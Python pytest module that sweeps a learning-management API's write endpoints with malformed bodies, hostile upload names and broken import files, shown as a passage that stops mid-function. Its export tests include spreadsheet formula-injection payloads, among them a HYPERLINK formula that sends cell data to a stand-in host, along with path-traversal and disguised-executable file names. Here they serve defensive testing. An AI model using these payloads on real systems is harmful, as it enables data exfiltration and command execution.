"""Bad input on every write endpoint: a clear 4xx problem answer and nothing written.

WRITE_ROUTES is derived from the authorization matrix's ROUTES (the rows with an unsafe
method), so a write route added to the app without a matrix row fails there and in
``test_every_write_route_is_swept``. A row names the persona allowed to write there (the
least privileged one the matrix lets through, unless SWEEPS says otherwise), which world
objects fill the path (the matrix row's), and the bodies: valid JSON bodies from SWEEPS (the
bases the field mutations start from), none for routes that take no body (they accept
nothing but ``{}``), or an "import" / "submission" upload (the matrix row's "file" / "pdf").

Each case runs in its own SAVEPOINT, rolled back afterwards; before the rollback the
snapshot of every table's rows and of the upload directory must equal the one taken before
the request (tests/security/bad_input_support.py). Answers must be 4xx
``application/problem+json`` with type, title, status and detail; never a 5xx.

Categories (counted in the terminal summary, tests/evidence.py):

- malformed JSON (syntax, invalid UTF-8, deep nesting), a JSON array or scalar instead of
  an object, wrong media types (text/plain, form, XML, multipart, none), a body over
  MAX_CONTENT_LENGTH (LMS_MAX_CONTENT_MB), path ids beyond the INTEGER columns;
- per field, derived from the route's marshmallow schema (nested ones too): wrong types,
  null where not allowed, NaN and infinity, fractions for integers, integers and dates out
  of range, control characters, overlong strings, unknown and server-owned fields;
- uploads: hostile file names, wrong magic bytes, empty files, bad form fields; imports:
  broken encodings, truncated or sheet-less XLSX, formula cells, bad rows;
- exports: formulas typed into names, institutions and titles come out neutralised in every
  CSV and XLSX export, and control characters in stored data do not break them.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from lms.extensions import db, limiter
from tests import evidence
from tests.builders import PASSWORD
from tests.payloads import PDF_BYTES, QUIZ, practical_defaults
from tests.security.bad_input_support import (
    HOSTILE_SHEETS,
    Snapshot,
    field_mutations,
    problem_errors,
    with_value,
    xlsx_bytes,
    xlsx_with_sheet_xml,
    xlsx_without_sheets,
)
from tests.security.test_authorization_matrix import (
    EXCLUDED_ENDPOINTS,
    PERSONAS,
    PRACTICAL,
    ROUTES,
    Row,
    _replace_argument,
    _rule_arguments,
)
from tests.security.world import build_world

pytestmark = pytest.mark.slow  # a sweep: thousands of requests, tens of seconds

WRITE_METHODS = {"POST", "PUT", "PATCH", "DELETE"}
ANON, T1, T3, INSTR, ADMIN = "anonymous", "teacher_t1", "teacher_t3", "instructor", "admin"


def _later(days: int) -> str:
    return (datetime.now(UTC) + timedelta(days=days)).isoformat()


def _course(ids):
    return {
        "code": "BAD-INPUT-1",
        "title": "工业互联网产教融合教师研修·深圳站",
        "program_id": ids["program_id"],
        "host_institution": "深圳职业技术大学",
        "organizers": ["中国职业技术教育学会"],
        "location": "深圳",
        "starts_on": "2021-03-01",
        "ends_on": "2021-03-07",
        "capacity": 90,
        "waitlist_enabled": True,
        "self_enrollment": True,
        "enroll_opens_at": _later(1),
        "enroll_closes_at": _later(10),
        "min_theory_hours": 4,
        "min_practical_hours": 2,
        "grade_release": "manual",
        "certificate_title": "结业证书",
        "certificate_issuer": "中国职业技术教育学会",
        "certificate_signatory": "王主任",
        "certificate_validity_months": 36,
    }


def _theory_module(ids):
    return {
        "kind": "theory",
        "title": "工业互联网安全",
        "hours": 2,
        "required": True,
        "position": 3,
        "content": "# 安全体系",
        "resources": [{"title": "白皮书", "url": "https://example.edu.cn/whitepaper.pdf"}],
        "quiz": QUIZ,
    }


def _practical_module(ids):
    return {
        **practical_defaults(),
        "brief": "接入一台设备",
        "max_attempts": 3,
        "reopen": "until_pass",
        "allowed_extensions": [".pdf", ".zip"],
        "max_file_mb": 10,
    }


@dataclass(frozen=True)
class Write:
    persona: str
    params: dict = field(default_factory=dict)  # path parameter -> world.ids key
    # Valid JSON bodies (functions of world.ids); () = the route takes no body;
    # "import" / "submission" = multipart uploads.
    bodies: tuple = ()
    upload: str | None = None
    fresh_client: bool = False  # the route ends sessions: a new login for every case


@dataclass(frozen=True)
class Sweep:
    bodies: tuple = ()  # valid JSON bodies, functions of world.ids; () = the route takes none
    persona: str | None = None  # default: _writer(the matrix row)
    params: dict | None = None  # default: the matrix row's
    fresh_client: bool = False


# The matrix row's body kind -> the multipart upload the sweep sends.
UPLOADS = {"file": "import", "pdf": "submission"}


REASON = (lambda ids: {"reason": "姓名有误，更正后重新颁发"},)

# What the sweep needs beyond the matrix row: valid bodies (the bases the field mutations
# start from), and the persona or path objects where they are not the derived ones.
SWEEPS: dict[tuple[str, str], Sweep] = {
    ("POST", "/api/v1/auth/activate"): Sweep(
        bodies=(lambda ids: {"token": "t" * 43, "password": "a long memorable phrase"},)
    ),
    ("POST", "/api/v1/auth/login"): Sweep(
        bodies=(lambda ids: {"email": ids["t1_email"], "password": PASSWORD},)
    ),
    ("POST", "/api/v1/auth/logout"): Sweep(fresh_client=True),
    ("POST", "/api/v1/auth/password"): Sweep(
        bodies=(
            lambda ids: {"current_password": PASSWORD, "new_password": "另一个足够长的口令 2021"},
        ),
        fresh_client=True,
    ),
    ("POST", "/api/v1/auth/tokens"): Sweep(
        bodies=(lambda ids: {"name": "成绩同步脚本", "expires_in_days": 30},)
    ),
    ("POST", "/api/v1/certificates/<string:serial>/reissue"): Sweep(bodies=REASON),
    ("POST", "/api/v1/certificates/<string:serial>/restore"): Sweep(bodies=REASON),
    ("POST", "/api/v1/certificates/<string:serial>/revoke"): Sweep(bodies=REASON),
    ("POST", "/api/v1/courses"): Sweep(bodies=(_course,)),
    ("PATCH", "/api/v1/courses/<int:course_id>"): Sweep(bodies=(_course,)),
    ("POST", "/api/v1/courses/<int:course_id>/certificates"): Sweep(
        bodies=(
            lambda ids: {
                "enrollment_ids": [ids["enrollment_id"]],
                "dry_run": True,
                "override_reason": "线下补考通过",
            },
            lambda ids: {"all_eligible": True, "dry_run": True},
        )
    ),
    ("POST", "/api/v1/courses/<int:course_id>/enrollments"): Sweep(
        bodies=(lambda ids: {"user_id": ids["t3_id"]},), persona=ADMIN
    ),
    ("POST", "/api/v1/courses/<int:course_id>/modules"): Sweep(
        bodies=(_theory_module, _practical_module)
    ),
    ("PUT", "/api/v1/courses/<int:course_id>/modules/order"): Sweep(
        bodies=(
            lambda ids: {
                "module_ids": [
                    ids["plain_module_id"],
                    ids["practical_module_id"],
                    ids["theory_module_id"],
                ]
            },
        )
    ),
    ("PATCH", "/api/v1/modules/<int:module_id>"): Sweep(
        bodies=(
            lambda ids: {
                k: v for k, v in _practical_module(ids).items() if k not in ("kind", "rubric")
            },
        ),
        params=PRACTICAL,
    ),
    ("POST", "/api/v1/modules/<int:module_id>/completion"): Sweep(persona=T3),
    ("POST", "/api/v1/modules/<int:module_id>/extensions"): Sweep(
        bodies=(lambda ids: {"user_id": ids["t1_id"], "due_at": _later(30), "reason": "出差"},)
    ),
    ("POST", "/api/v1/modules/<int:module_id>/quiz-attempts"): Sweep(
        bodies=(lambda ids: {"answers": [[0], [0, 1, 2]]},), persona=T3
    ),
    ("POST", "/api/v1/modules/<int:module_id>/submissions"): Sweep(persona=T3),
    ("POST", "/api/v1/programs"): Sweep(
        bodies=(
            lambda ids: {
                "code": "IIOT-TOUR",
                "title": "工业互联网中国行",
                "organizers": ["中国工业互联网研究院"],
                "description": "全国巡回",
            },
        )
    ),
    ("PATCH", "/api/v1/programs/<int:program_id>"): Sweep(
        bodies=(lambda ids: {"title": "工业互联网中国行（第二季）", "organizers": ["海尔"]},)
    ),
    ("POST", "/api/v1/submissions/<int:submission_id>/grade"): Sweep(
        bodies=(
            lambda ids: {
                "scores": [{"criterion_id": c, "points": 1} for c in ids["criteria"]],
                "feedback": "**很好**",
                "return_for_revision": False,
            },
        )
    ),
    ("POST", "/api/v1/users"): Sweep(
        bodies=(
            lambda ids: {
                "email": "zhang.wei@example.edu.cn",
                "full_name": "张伟",
                "full_name_en": "Zhang Wei",
                "role": "teacher",
                "password": "一个足够长的初始口令 2020",
                "institution": "广州番禺职业技术学院",
                "department": "信息工程学院",
                "title": "讲师",
                "staff_no": "T2020001",
                "phone": "+86 138 0000 0000",
            },
        )
    ),
    ("PATCH", "/api/v1/users/<int:user_id>"): Sweep(
        bodies=(
            lambda ids: {
                "email": "li.ming@example.edu.cn",
                "full_name": "李明",
                "full_name_en": "Li Ming",
                "role": "teacher",
                "is_active": True,
                "institution": "广东轻工职业技术学院",
                "department": "信息技术学院",
                "title": "副教授",
                "staff_no": "GZ-001",
                "phone": "13800000000",
            },
        )
    ),
}


def _writer(row: Row) -> str:
    """The least privileged persona the matrix lets through (not 401, 403 or 404)."""
    return next(
        persona
        for persona in (ANON, T1, INSTR, ADMIN)
        if row.expected[PERSONAS.index(persona)] not in (401, 403, 404)
    )


def _write(key: tuple[str, str], row: Row) -> Write:
    sweep = SWEEPS.get(key, Sweep())
    return Write(
        sweep.persona or _writer(row),
        params=row.params if sweep.params is None else sweep.params,
        bodies=sweep.bodies,
        upload=UPLOADS.get(row.body),
        fresh_client=sweep.fresh_client,
    )


# Every write route of the authorization matrix (ROUTES): one table of routes, not two.
WRITE_ROUTES: dict[tuple[str, str], Write] = {
    key: _write(key, row) for key, row in sorted(ROUTES.items()) if key[0] in WRITE_METHODS
}


def write_routes(app) -> set[tuple[str, str]]:
    routes = set()
    for rule in app.url_map.iter_rules():
        if rule.endpoint in EXCLUDED_ENDPOINTS:
            continue
        for method in rule.methods & WRITE_METHODS:
            routes.add((method, rule.rule))
    return routes


def test_every_write_route_is_swept(app):
    routes = write_routes(app)
    missing = sorted(routes - WRITE_ROUTES.keys())
    stale = sorted(WRITE_ROUTES.keys() - routes)
    assert not missing, f"write routes without a row in the bad-input sweep: {missing}"
    assert not stale, f"rows for routes the app no longer has: {stale}"
    unknown = sorted(SWEEPS.keys() - WRITE_ROUTES.keys())
    assert not unknown, f"SWEEPS rows for routes that are not write routes of ROUTES: {unknown}"


def _schema_of(app, method: str, rule: str):
    """The JSON body schema flask-smorest validates for the route (None: no JSON body)."""
    url_rule = next(r for r in app.url_map.iter_rules() if r.rule == rule and method in r.methods)
    view = app.view_functions[url_rule.endpoint]
    view_class = getattr(view, "view_class", None)
    func = getattr(view_class, method.lower()) if view_class else view
    for parameter in getattr(func, "_apidoc", {}).get("arguments", {}).get("parameters", []):
        schema = parameter["schema"]
        return schema() if isinstance(schema, type) else schema
    return None


def test_the_table_matches_the_schemas(app):
    """A route with a JSON schema has valid bodies in the table, one without has none."""
    wrong = []
    for (method, rule), row in WRITE_ROUTES.items():
        schema = _schema_of(app, method, rule)
        if row.upload:
            continue
        if (schema is not None) != bool(row.bodies):
            wrong.append(f"{method} {rule}: schema {schema!r}, bodies {len(row.bodies)}")
    assert not wrong, wrong


# --- the world and the case runner -----------------------------------------------------------


class Sweep:
    """A world (tests/security/world.py) plus teacher T3 (enrolled in course A, no activity);
    ``check`` sends one bad request in a rolled-back SAVEPOINT and records what went wrong."""

    def __init__(self, app, users):
        self.app = app
        self.world = build_world(app)
        world = self.world
        t3 = users.create(role="teacher", full_name="周新")
        world.users[T3] = t3
        world.ids["t3_id"] = t3.id
        world.ids["t1_email"] = world.users[T1].email
        admin = world.client(ADMIN)
        enrolled = admin.post(
            f"/api/v1/courses/{world.ids['course_id']}/enrollments", json={"user_id": t3.id}
        )
        assert enrolled.status_code == 201, enrolled.get_json()
        practical = admin.get(f"/api/v1/modules/{world.ids['practical_module_id']}").get_json()
        world.ids["criteria"] = [c["id"] for c in practical["rubric"]]
        self.clients = {p: world.client(p) for p in (ANON, T1, T3, INSTR, ADMIN)}
        self.upload_dir = app.config["LMS_UPLOAD_DIR"]
        # Every case is rolled back, so the state before each one is this same snapshot (a
        # rollback that failed would show up as a write in the next case).
        self.before = Snapshot.take(self.upload_dir)
        self.failures: list[str] = []
        self.counts: Counter[str] = Counter()

    def path(self, method: str, rule: str, overrides: dict | None = None) -> str:
        row = WRITE_ROUTES[(method, rule)]
        path = rule
        for name in _rule_arguments(rule):
            value = (overrides or {}).get(name, self.world.ids[row.params.get(name, name)])
            path = _replace_argument(path, name, value)
        return path

    def check(
        self, category, method, rule, *, expect, path=None, persona=None, field=None, **request
    ):
        """Send the request; it must answer a problem with a status in ``expect`` and
        write nothing (rows and upload directory unchanged)."""
        row = WRITE_ROUTES[(method, rule)]
        persona = persona or row.persona
        fresh = row.fresh_client and persona != ANON
        path = path or self.path(method, rule)
        limiter.reset()  # the login and activation limits must not answer for the case
        connection = db.session.connection()
        savepoint = connection.begin_nested()
        try:
            before = self.before
            if fresh:  # its login writes a session: the case starts after it
                client = self.world.client(persona)
                before = Snapshot.take(self.upload_dir)
            else:
                client = self.clients[persona]
            response = client.open(method, path, **request)
            after = Snapshot.take(self.upload_dir)
        finally:
            savepoint.rollback()
            db.session.expire_all()
        self.counts[category] += 1
        label = f"[{category}] {method} {path} {request.get('content_type', '')}".rstrip()
        wrong = problem_errors(response)
        if response.status_code not in expect:
            wrong.append(f"expected one of {sorted(expect)}, got {response.status_code}")
        wrong += after_diff(before, after)
        if field is not None and response.status_code == 422:
            errors = (response.get_json(silent=True) or {}).get("errors")
            if isinstance(errors, dict) and field not in errors:
                wrong.append(f"422 does not name the field {field!r}: {errors}")
        if wrong:
            detail = response.get_data()[:200]
            self.failures.append(f"{label}: {'; '.join(wrong)} {detail!r}")
        return response

    def report(self, name: str) -> None:
        for category, n in self.counts.items():
            evidence.add(f"bad-input cases: {category}", n)
        evidence.add("bad-input cases", sum(self.counts.values()))
        assert not self.failures, f"{name}: {len(self.failures)} failing case(s):\n" + "\n".join(
            self.failures
        )


def after_diff(before: Snapshot, after: Snapshot) -> list[str]:
    changes = before.diff(after)
    return [f"WROTE {c}" for c in changes]


@pytest.fixture
def sweep(app, users):
    return Sweep(app, users)


def _bodies(row: Write, ids) -> list[dict]:
    return [make(ids) for make in row.bodies]


# --- whole-body cases: every write route -----------------------------------------------------

JSON = "application/json"
MALFORMED = {
    "truncated": b'{"title": "\xe5\xb7\xa5',
    "single quotes": b"{'title': 'x'}",
    "invalid UTF-8": b'{"title": "\xff\xfe\xfa"}',
    "two documents": b'{"a": 1}{"b": 2}',
    "deep nesting": b"[" * 5_000 + b"]" * 5_000,
    "deep object nesting": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
}
NOT_AN_OBJECT = {
    "array": b"[]",
    "array of objects": b'[{"title": "x"}]',
    "string": b'"title"',
    "number": b"42",
    "null": b"null",
}
WRONG_MEDIA_TYPES = {
    "text/plain": b'{"title": "x"}',
    "application/x-www-form-urlencoded": b"title=x&code=y",
    "application/xml": b"<course><title>x</title></course>",
    "multipart/form-data; boundary=xyz": b'--xyz\r\nContent-Disposition: form-data; name="title"'
    b"\r\n\r\nx\r\n--xyz--\r\n",
    "application/json-patch+json": b'[{"op": "replace", "path": "/title", "value": "x"}]',
}
JSON_ONLY_FOR_UPLOADS = {
    "application/json": b'{"dry_run": true}',
    "text/csv": b"email,full_name\na@example.edu.cn,a\n",
    "application/x-www-form-urlencoded": b"dry_run=true",
}


def test_whole_body_cases_on_every_write_route(app, sweep):
    """Malformed JSON, non-objects, wrong media types and too large bodies: 400, 422, 415
    and 413, on every write route, whatever it does with a body."""
    for (method, rule), row in sorted(WRITE_ROUTES.items()):
        if row.upload:
            for media_type, data in JSON_ONLY_FOR_UPLOADS.items():
                sweep.check(
                    "wrong media type",
                    method,
                    rule,
                    expect={415},
                    data=data,
                    content_type=media_type,
                )
            continue
        for data in MALFORMED.values():
            sweep.check("malformed JSON", method, rule, expect={400}, data=data, content_type=JSON)
        for data in NOT_AN_OBJECT.values():
            sweep.check(
                "JSON not an object",
                method,
                rule,
                expect={400, 422},
                data=data,
                content_type=JSON,
            )
        for media_type, data in WRONG_MEDIA_TYPES.items():
            sweep.check(
                "wrong media type", method, rule, expect={415}, data=data, content_type=media_type
            )
        sweep.check(
            "wrong media type",
            method,
            rule,
            expect={415},
            data=b'{"title": "x"}',
            headers={"Content-Type": ""},
        )
    sweep.report("whole-body cases")


def test_bodies_over_the_size_limit_are_refused(app, sweep, monkeypatch):
    """413 on every write route for a body over MAX_CONTENT_LENGTH (lowered to 64 KiB here;
    one JSON and one multipart request against the configured LMS_MAX_CONTENT_MB too)."""
    configured = app.config["MAX_CONTENT_LENGTH"]
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 64 * 1024)
    big_text = "字" * (64 * 1024)
    for (method, rule), row in sorted(WRITE_ROUTES.items()):
        if row.upload:
            data = {"file": (io.BytesIO(b"x" * 70_000), "big.pdf"), "text": "x"}
            if row.upload == "submission":
                data = {"files": (io.BytesIO(PDF_BYTES + b" " * 70_000), "big.pdf")}
            sweep.check(
                "too large",
                method,
                rule,
                expect={413},
                data=data,
                content_type="multipart/form-data",
            )
            continue
        body = _bodies(row, sweep.world.ids)[0] if row.bodies else {}
        sweep.check("too large", method, rule, expect={413}, json={**body, "padding": big_text})
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", configured)
    over = configured + 1
    sweep.check(
        "too large",
        "POST",
        "/api/v1/programs",
        expect={413},
        data=b'{"code": "' + b"x" * (over - 12) + b'"}',
        content_type=JSON,
    )
    sweep.check(
        "too large",
        "POST",
        "/api/v1/users/import",
        expect={413},
        data={"file": (io.BytesIO(b"a" * over), "roster.csv")},
        content_type="multipart/form-data",
    )
    sweep.report("oversize bodies")


def test_ids_beyond_any_integer_column_are_not_found(app, sweep):
    """Path ids of 2**31, 2**63 and 10**30 answer 404 (never a driver overflow)."""
    for (method, rule), row in sorted(WRITE_ROUTES.items()):
        names = [n for n in _rule_arguments(rule) if f"<int:{n}>" in rule]
        for name in names:
            for value in (2**31, 2**63, 10**30):
                path = sweep.path(method, rule, {name: value})
                kwargs = {"json": _bodies(row, sweep.world.ids)[0]} if row.bodies else {}
                if row.upload:
                    kwargs = {
                        "data": {"file": (io.BytesIO(b"email\n"), "a.csv")},
                        "content_type": "multipart/form-data",
                    }
                sweep.check("id out of range", method, rule, expect={404}, path=path, **kwargs)
    sweep.report("ids out of range")


MASS_ASSIGNMENT = {
    "id": 999,
    "created_at": "2020-01-01T00:00:00+00:00",
    "status": "published",
    "seats_taken": 0,
    "password_hash": "x",
    "version": 7,
    "is_activated": True,
    "course_id": 1,
    "graded_at": "2020-01-01T00:00:00+00:00",
}


def test_every_field_refuses_wrong_values(app, sweep):
    """Per field of every JSON body (nested ones too), from the route's own schema: wrong
    types, null where not allowed, control characters, overlong strings, integers beyond
    the columns; then unknown fields and fields the server owns (mass assignment)."""
    for (method, rule), row in sorted(WRITE_ROUTES.items()):
        if not row.bodies:
            continue
        schema = _schema_of(app, method, rule)
        for number, body in enumerate(_bodies(row, sweep.world.ids)):
            for category, path, value in field_mutations(schema, body):
                expect = {422} if category != "out of range" else {404, 422}
                sweep.check(
                    category,
                    method,
                    rule,
                    expect=expect,
                    field=path[0],
                    json=with_value(body, path, value),
                )
            if number:  # unknown fields: once per route
                continue
            loadable = {f.data_key or n for n, f in schema.load_fields.items()}
            extras = {k: v for k, v in MASS_ASSIGNMENT.items() if k not in loadable}
            extras["unexpected_field"] = "x"
            for name, value in extras.items():
                sweep.check(
                    "unknown field",
                    method,
                    rule,
                    expect={422},
                    field=name,
                    json={**body, name: value},
                )
    sweep.report("field values")


# --- uploads: practical submissions ----------------------------------------------------------

SUBMIT = ("POST", "/api/v1/modules/<int:module_id>/submissions")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
PNG_MAGIC = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
REFUSED_FILES = {
    "exe renamed .pdf": ("report.pdf", EXE),
    "empty .pdf": ("report.pdf", b""),
    "PNG renamed .jpg": ("photo.jpg", PNG_MAGIC),
    "plain zip renamed .docx": ("report.docx", b"PK\x03\x04" + b"\x00" * 26),
    "text with NUL": ("notes.txt", b"abc\x00def"),
    "text not UTF-8": ("notes.txt", "设备接入".encode("gb18030") + b"\xff"),
    "exe": ("setup.exe", EXE),
    "RTL override hiding .exe": ("report\u202egpj.exe", EXE),
    "path traversal without extension": ("../../etc/passwd", PDF_BYTES),
    "Windows reserved name": ("CON", PDF_BYTES),
    "NUL before a second extension": ("report.pdf\x00.exe", PDF_BYTES),
    "300-character name, .exe": ("报" * 300 + ".exe", EXE),
}
# Names that are hostile but carry a real PDF: accepted, stored under a server-made name,
# shown sanitised (last path segment, no control or bidi characters, at most 255 bytes).
HOSTILE_NAMES = (
    "../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\report.pdf",
    "/absolute/path/report.pdf",
    "report\x00.pdf",
    "\u202eevil\u202c.pdf",
    "CON.pdf",
    "aux.pdf",
    "a" * 300 + ".pdf",
    "报告" * 200 + ".pdf",
    'quote"semicolon;.pdf',
    "..pdf",
    " .pdf ",
)


def _multipart(**fields):
    return {"data": fields, "content_type": "multipart/form-data"}


def test_submission_uploads_refuse_bad_files(app, sweep):
    """Wrong magic bytes, empty files, hostile names that hide an extension, bad form fields:
    422 (413 for an oversize text field), nothing stored, no row written."""
    for name, data in REFUSED_FILES.values():
        sweep.check(
            "hostile file",
            *SUBMIT,
            expect={422},
            **_multipart(text="实训报告", files=[(io.BytesIO(data), name)]),
        )
    too_many = [(io.BytesIO(PDF_BYTES), f"r{i}.pdf") for i in range(11)]
    form_cases = [
        ({"text": "李\x00明", "files": [(io.BytesIO(PDF_BYTES), "r.pdf")]}, {422}),
        ({"text": "x" * 50_001}, {422}),
        ({"text": "x" * (3 * 1024 * 1024)}, {413}),  # over MAX_FORM_MEMORY_SIZE
        ({"files": "not a file"}, {422}),
        ({"text": "报告", "grade": "100"}, {422}),
        ({"files": too_many}, {422}),
        ({}, {422}),
    ]
    for fields, expect in form_cases:
        sweep.check("bad form field", *SUBMIT, expect=expect, **_multipart(**fields))
    sweep.check(
        "malformed multipart",
        *SUBMIT,
        expect={400, 422},
        data=b'--abc\r\nContent-Disposition: form-data; name="text"\r\n\r\nx',
        content_type="multipart/form-data; boundary=abc",
    )
    sweep.check(
        "malformed multipart",
        *SUBMIT,
        expect={400, 422},
        data=b"text=x",
        content_type="multipart/form-data",
    )
    sweep.report("submission uploads")


def test_hostile_file_names_are_neutralised(app, sweep):
    """A real PDF under a hostile name is accepted, but the name is never a path: it is
    stored under a server-made key inside the upload directory, shown sanitised, and sent
    back in a Content-Disposition that cannot break the header."""
    client = sweep.clients[T3]
    path = sweep.path(*SUBMIT)
    root = sweep.upload_dir
    wrong = []
    for name in HOSTILE_NAMES:
        connection = db.session.connection()
        savepoint = connection.begin_nested()
        try:
            # Files stored by earlier cases stay: their request committed (to the SAVEPOINT).
            before = Snapshot.take(root)
            response = client.post(
                path, **_multipart(text="报告", files=[(io.BytesIO(PDF_BYTES), name)])
            )
            body = response.get_json()
            after = Snapshot.take(root)
            download = None
            if response.status_code == 201:
                file = body["files"][0]
                download = client.get(f"/api/v1/submissions/{body['id']}/files/{file['id']}")
        finally:
            savepoint.rollback()
            db.session.expire_all()
        evidence.add("bad-input cases: hostile file name", 1)
        evidence.add("bad-input cases", 1)
        if response.status_code != 201:
            wrong += [f"{name!r}: {e}" for e in problem_errors(response)]
            continue
        shown = body["files"][0]["filename"]
        problems = []
        if any(c in shown for c in "/\\\x00\r\n\u202e\u202c") or shown.startswith("."):
            problems.append(f"unsafe display name {shown!r}")
        if len(shown.encode()) > 255 or not shown.endswith(".pdf"):
            problems.append(f"display name {shown!r} too long or lost its extension")
        new_files = set(after.files) - set(before.files)
        if len(new_files) != 1 or any(".." in f or "passwd" in f for f in new_files):
            problems.append(f"stored as {new_files}")
        disposition = download.headers.get("Content-Disposition", "")
        if download.status_code != 200 or any(c in disposition for c in "\r\n\x00"):
            problems.append(f"download {download.status_code} {disposition!r}")
        if download.get_data() != PDF_BYTES:
            problems.append("download does not return the uploaded bytes")
        wrong += [f"{name!r}: {p}" for p in problems]
    assert not wrong, "\n".join(wrong)


# --- uploads: user and roster imports --------------------------------------------------------

IMPORTS = (
    ("POST", "/api/v1/users/import"),
    ("POST", "/api/v1/courses/<int:course_id>/enrollments/import"),
)
GOOD_CSV = "email,full_name,institution\nli.na@example.edu.cn,李娜,深圳职业技术大学\n"
GOOD_XLSX_ROWS = [["email", "full_name"], ["li.na@example.edu.cn", "李娜"]]
BROKEN_FILES = {
    "invalid UTF-8, not GB18030 either": b"email,full_name\nli@example.edu.cn,\xff\xfe\xfd\x80\n",
    "UTF-16 LE without BOM": GOOD_CSV.encode("utf-16-le"),
    "UTF-16 BE without BOM": GOOD_CSV.encode("utf-16-be"),
    "UTF-32 with BOM": GOOD_CSV.encode("utf-32"),
    "truncated XLSX": None,  # filled in below (needs openpyxl)
    "XLSX without sheets": None,
    "XLSX with an empty sheet": None,
    "XLSX with a header only": None,
    "XLSX formula as email": None,
    "XLSX formula as name": None,
    "CSV formula as email": 'email,full_name\n=HYPERLINK("http://x"),李娜\n'.encode(),
    "CSV with NUL": b"email,full_name\nli.na@example.edu.cn,li\x00na\n",
    "CSV with ESC in a name": b"email,full_name\nli.na@example.edu.cn,li\x1bna\n",
    "CSV with a vertical tab in a name": b"email,full_name\nli.na@example.edu.cn,li\x0bna\n",
    "CSV unterminated quote": b'email,full_name\nli.na@example.edu.cn,"li na\n',
    "CSV more cells than header": b"email,full_name\nli.na@example.edu.cn,li,na,x\n",
    "CSV duplicate email": b"email,full_name\na@example.edu.cn,a\nA@example.edu.cn,b\n",
    "CSV overlong name": ("email,full_name\na@example.edu.cn," + "名" * 101 + "\n").encode(),
    "CSV overlong email": ("email,full_name\n" + "a" * 250 + "@example.edu.cn,a\n").encode(),
    "CSV bad role": b"email,full_name,role\na@example.edu.cn,a,superuser\n",
    "PDF renamed .csv": PDF_BYTES,
    "legacy XLS (OLE2)": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
    "PNG": PNG_MAGIC,
    "exe": EXE,
    "empty": b"",
    "only a BOM": b"\xef\xbb\xbf",
    "only blank lines": b"\n\n  \n",
    "header without data": b"email,full_name\n",
    "zip that is not XLSX": b"PK\x03\x04" + b"\x00" * 26,
}


def _broken_files() -> dict[str, bytes]:
    good = xlsx_bytes(GOOD_XLSX_ROWS)
    files = dict(BROKEN_FILES)
    files["truncated XLSX"] = good[: len(good) // 2]
    files["XLSX without sheets"] = xlsx_without_sheets()
    files["XLSX with an empty sheet"] = xlsx_bytes([])
    files["XLSX with a header only"] = xlsx_bytes([["email", "full_name"]])
    files["XLSX formula as email"] = xlsx_bytes(
        [["email", "full_name"], ['=CONCATENATE("li.na","@example.edu.cn")', "李娜"]]
    )
    files["XLSX formula as name"] = xlsx_bytes(
        [["email", "full_name"], ["li.na@example.edu.cn", "=1+1"]]
    )
    for label, sheet_xml in HOSTILE_SHEETS.items():
        files[label] = xlsx_with_sheet_xml(sheet_xml)
    return files


def test_imports_refuse_broken_files(app, sweep):
    """Broken encodings, damaged or empty workbooks, formula cells where data must be,
    non-spreadsheets, bad rows and bad form fields: 422 naming the problem, nothing written
    (neither dry run nor real import)."""
    for method, rule in IMPORTS:
        for label, data in _broken_files().items():
            for dry_run in ("false", "true"):
                response = sweep.check(
                    "broken import file",
                    method,
                    rule,
                    expect={422},
                    **_multipart(file=(io.BytesIO(data), "roster.csv"), dry_run=dry_run),
                )
                errors = (response.get_json(silent=True) or {}).get("errors")
                if response.status_code == 422 and not errors:
                    sweep.failures.append(f"{label}: 422 without errors")
        form_cases = [
            {"file": (io.BytesIO(GOOD_CSV.encode()), "r.csv"), "dry_run": "maybe"},
            {"file": "not a file", "dry_run": "true"},
            {"dry_run": "true"},
            {"file": (io.BytesIO(GOOD_CSV.encode()), "r.csv"), "overwrite": "true"},
            {"file": (io.BytesIO(GOOD_CSV.encode()), "r.csv"), "dry_run": "tr\x00ue"},
        ]
        for fields in form_cases:
            sweep.check("bad form field", method, rule, expect={422}, **_multipart(**fields))
    sweep.report("imports")


def test_import_file_names_are_never_used(app, sweep):
    """A valid roster under a hostile name is read by content; a dry run writes nothing,
    and no file is ever stored."""
    wrong = []
    for method, rule in IMPORTS:
        for name in HOSTILE_NAMES + ("roster.exe", ""):
            connection = db.session.connection()
            savepoint = connection.begin_nested()
            try:
                response = sweep.clients[ADMIN].post(
                    sweep.path(method, rule),
                    **_multipart(file=(io.BytesIO(GOOD_CSV.encode()), name), dry_run="true"),
                )
                after = Snapshot.take(sweep.upload_dir)
            finally:
                savepoint.rollback()
                db.session.expire_all()
            evidence.add("bad-input cases: hostile file name", 1)
            evidence.add("bad-input cases", 1)
            if response.status_code != 200 or response.get_json()["rows"] != 1:
                wrong.append(f"{rule} {name!r}: {response.status_code} {response.get_json()}")
            wrong += [f"{rule} {name!r}: WROTE {c}" for c in sweep.before.diff(after)]
    assert not wrong, "\n".join(wrong)


# --- exports: formulas are neutralised -------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
# Every export that writes CSV or XLSX: (method, rule) -> formats. A GET route with a
# ``format`` query argument must be listed here (test_every_export_is_listed).
GRADEBOOK = ("GET", "/api/v1/courses/<int:course_id>/gradebook")
EXPORTS = {
    GRADEBOOK: ("csv", "xlsx"),
    ("GET", "/api/v1/courses/<int:course_id>/enrollments"): ("csv", "xlsx"),
    ("GET", "/api/v1/courses/<int:course_id>/completion"): ("csv", "xlsx"),
    ("GET", "/api/v1/certificates"): ("csv", "xlsx"),
}


def test_every_export_is_listed(app):
    """Exports are found by their ``format`` query argument (elsewhere ``format`` is
    refused: lms.core.auth.check_query_names)."""
    found = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint in EXCLUDED_ENDPOINTS:
            continue
